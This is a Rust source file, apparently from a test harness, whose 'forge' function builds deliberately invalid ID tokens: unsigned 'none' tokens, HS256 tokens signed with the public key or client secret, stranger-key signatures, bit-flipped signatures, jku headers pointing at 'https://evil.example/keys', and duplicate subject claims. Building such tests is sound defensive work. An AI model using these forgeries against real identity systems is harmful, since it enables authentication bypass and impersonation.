//! ID tokens signed otherwise: by nobody, by a stranger, by another algorithm; really so, never in part.

use aws_lc_rs::hmac;
use aws_lc_rs::signature::{RSA_PKCS1_SHA384, RSA_PKCS1_SHA512, RSA_PSS_SHA256};
use base64::Engine as _;
use base64::prelude::{BASE64_URL_SAFE, BASE64_URL_SAFE_NO_PAD};
use serde_json::{Map, Value, json};

use super::effect::{Algorithm, Shape, Signing};
use crate::keys::{KeySet, SigningKey, SigningKeys};
use crate::wire::id_token::ClaimSet;

/// Who signs.
enum Signer<'a> {
    Nobody,
    Rsa(&'a SigningKey),
    Stranger(Box<SigningKey>),
    Other(Algorithm),
    Secret(Vec<u8>),
}

/// Signs and prints an ID token as told.
pub(crate) fn forge(
    set: &KeySet,
    keys: &SigningKeys,
    claims: &ClaimSet,
    signings: &[Signing],
    client_secret: &str,
) -> String {
    let published = set.signing();
    let mut header = Map::new();
    header.insert("alg".to_owned(), "RS256".into());
    header.insert("kid".to_owned(), published.kid().into());
    header.insert("typ".to_owned(), "JWT".into());
    let mut signer = Signer::Rsa(published);
    let (mut shape, mut is_flipped) = (None, false);
    let mut put = |name: &str, value: Value| drop(header.insert(name.to_owned(), value));
    for signing in signings {
        match signing {
            Signing::Unsigned => {
                put("alg", "none".into());
                signer = Signer::Nobody;
            }
            Signing::PublicKeyAsSecret => {
                put("alg", "HS256".into());
                signer = Signer::Secret(published.public_pem().into_bytes());
            }
            Signing::ClientSecret => {
                put("alg", "HS256".into());
                signer = Signer::Secret(client_secret.as_bytes().to_vec());
            }
            Signing::Stranger { under_published_id } => {
                if let Ok(stranger) = SigningKeys::stranger() {
                    if !under_published_id {
                        put("kid", stranger.kid().into());
                    }
                    signer = Signer::Stranger(Box::new(stranger));
                }
            }
            Signing::KeyId(kid) => put("kid", kid.clone().into()),
            Signing::Algorithm(algorithm) => {
                put("alg", name(*algorithm).into());
                if *algorithm == Algorithm::Es256 {
                    put("kid", keys.elliptic().kid().into());
                }
                signer = Signer::Other(*algorithm);
            }
            Signing::BitFlipped => is_flipped = true,
            Signing::Header(member) => odd_header(member, published, &mut put),
            Signing::Shape(odd) => shape = Some(*odd),
        }
    }
    if header.get("kid").is_some_and(Value::is_null) {
        header.shift_remove("kid");
    }
    let payload = match shape {
        Some(Shape::DuplicateClaims) => with_duplicate(&claims.to_json()),
        _ => claims.to_json(),
    };
    let encode = |bytes: &[u8]| match shape {
        Some(Shape::Padded) => BASE64_URL_SAFE.encode(bytes),
        _ => BASE64_URL_SAFE_NO_PAD.encode(bytes),
    };
    let input = format!(
        "{}.{}",
        encode(Value::from(header).to_string().as_bytes()),
        encode(payload.as_bytes())
    );
    let mut signature = sign(&signer, keys, published, input.as_bytes());
    if let Some(byte) = signature.last_mut().filter(|_| is_flipped) {
        *byte ^= 1;
    }
    let signature = encode(&signature);
    match shape {
        Some(Shape::TwoParts) => input,
        Some(Shape::Spaces) => format!("{} . {signature} ", input.replace('.', " . ")),
        Some(Shape::Encrypted) => {
            format!("{input}.{signature}.{}.{}", encode(b"iv"), encode(b"tag"))
        }
        _ => format!("{input}.{signature}"),
    }
}

const fn name(algorithm: Algorithm) -> &'static str {
    match algorithm {
        Algorithm::Es256 => "ES256",
        Algorithm::Ps256 => "PS256",
        Algorithm::Rs384 => "RS384",
        Algorithm::Rs512 => "RS512",
    }
}

fn sign(signer: &Signer<'_>, keys: &SigningKeys, published: &SigningKey, input: &[u8]) -> Vec<u8> {
    match signer {
        Signer::Nobody => Vec::new(),
        Signer::Rsa(key) => key.sign(input),
        Signer::Stranger(key) => key.sign(input),
        Signer::Other(Algorithm::Es256) => keys.elliptic().sign(input),
        Signer::Other(Algorithm::Ps256) => published.sign_with(&RSA_PSS_SHA256, input),
        Signer::Other(Algorithm::Rs384) => published.sign_with(&RSA_PKCS1_SHA384, input),
        Signer::Other(Algorithm::Rs512) => published.sign_with(&RSA_PKCS1_SHA512, input),
        Signer::Secret(secret) => {
            let key = hmac::Key::new(hmac::HMAC_SHA256, secret);
            hmac::sign(&key, input).as_ref().to_vec()
        }
    }
}

/// Header members that make a careless library fetch or trust a key of the token's own (RFC 7515
/// section 4.1).
fn odd_header(member: &str, key: &SigningKey, put: &mut impl FnMut(&str, Value)) {
    match member {
        "crit" => {
            put("crit", json!(["mock"]));
            put("mock", json!(true));
        }
        "jwk" => put("jwk", serde_json::to_value(key.jwk()).unwrap_or_default()),
        other => put(other, json!("https://evil.example/keys")),
    }
}

/// The claims with `sub` twice, somebody else's last.
fn with_duplicate(claims: &str) -> String {
    let open = claims.strip_suffix('}').unwrap_or(claims);
    format!(r#"{open},"sub":"199999999999999999999"}}"#)
}

#[cfg(test)]
mod tests {
    use jsonwebtoken::{Algorithm as Alg, DecodingKey, Validation, decode, decode_header};

    use super::*;

    fn token(signing: Signing) -> (SigningKeys, String) {
        let keys = SigningKeys::built_in().unwrap();
        let set = keys.at(jiff::Timestamp::UNIX_EPOCH);
        let claims = ClaimSet::default()
            .with("sub", "1")
            .with("exp", 4_000_000_000_i64);
        let token = forge(&set, &keys, &claims, &[signing], "GOCSPX-secret");
        (keys, token)
    }

    /// Whether a token is good by a key under an algorithm.
    fn verifies(token: &str, key: &DecodingKey, algorithm: Alg) -> bool {
        let mut validation = Validation::new(algorithm);
        validation.validate_aud = false;
        decode::<Value>(token, key, &validation).is_ok()
    }

    #[test]
    fn other_algorithms_are_really_used() {
        for (algorithm, checked) in [
            (Algorithm::Ps256, Alg::PS256),
            (Algorithm::Rs384, Alg::RS384),
            (Algorithm::Rs512, Alg::RS512),
        ] {
            let (keys, token) = token(Signing::Algorithm(algorithm));
            let set = keys.at(jiff::Timestamp::UNIX_EPOCH);
            assert!(
                verifies(&token, set.signing().verifying(), checked),
                "{algorithm:?}"
            );
        }
        let (keys, token) = token(Signing::Algorithm(Algorithm::Es256));
        let (x, y) = keys.elliptic().coordinates();
        let key = DecodingKey::from_ec_components(&x, &y).unwrap();
        assert!(verifies(&token, &key, Alg::ES256));
    }

    #[test]
    fn secrets_and_strangers_really_sign() {
        let (keys, by_public_key) = token(Signing::PublicKeyAsSecret);
        let set = keys.at(jiff::Timestamp::UNIX_EPOCH);
        let pem = set.signing().public_pem();
        assert!(verifies(
            &by_public_key,
            &DecodingKey::from_secret(pem.as_bytes()),
            Alg::HS256
        ));
        let (_, by_secret) = token(Signing::ClientSecret);
        assert!(verifies(
            &by_secret,
            &DecodingKey::from_secret(b"GOCSPX-secret"),
            Alg::HS256
        ));
        let under_published_id = true;
        let (_, strange) = token(Signing::Stranger { under_published_id });
        assert!(!verifies(&strange, set.signing().verifying(), Alg::RS256));
        let stranger = SigningKeys::stranger().unwrap();
        assert!(verifies(&strange, stranger.verifying(), Alg::RS256));
        assert_eq!(
            decode_header(&strange).unwrap().kid.unwrap(),
            set.signing().kid()
        );
    }

    #[test]
    fn shapes_and_headers_are_as_odd_as_told() {
        let parts = |shape| token(Signing::Shape(shape)).1.split('.').count();
        assert_eq!((parts(Shape::TwoParts), parts(Shape::Encrypted)), (2, 5));
        assert!(token(Signing::Shape(Shape::Padded)).1.contains('='));
        assert!(token(Signing::Shape(Shape::Spaces)).1.contains(" . "));
        assert!(token(Signing::Unsigned).1.ends_with('.'));
        let (keys, flipped) = token(Signing::BitFlipped);
        let set = keys.at(jiff::Timestamp::UNIX_EPOCH);
        assert!(!verifies(&flipped, set.signing().verifying(), Alg::RS256));
        let (_, nameless) = token(Signing::KeyId(None));
        assert_eq!(decode_header(&nameless).unwrap().kid, None);
        assert!(verifies(&nameless, set.signing().verifying(), Alg::RS256));
        let (_, odd) = token(Signing::Header("jku"));
        let header = BASE64_URL_SAFE_NO_PAD
            .decode(odd.split('.').next().unwrap())
            .unwrap();
        assert!(
            String::from_utf8(header)
                .unwrap()
                .contains("https://evil.example/keys")
        );
        let (_, twice) = token(Signing::Shape(Shape::DuplicateClaims));
        let claims = BASE64_URL_SAFE_NO_PAD
            .decode(twice.split('.').nth(1).unwrap())
            .unwrap();
        assert_eq!(
            String::from_utf8(claims)
                .unwrap()
                .matches("\"sub\"")
                .count(),
            2
        );
    }
}
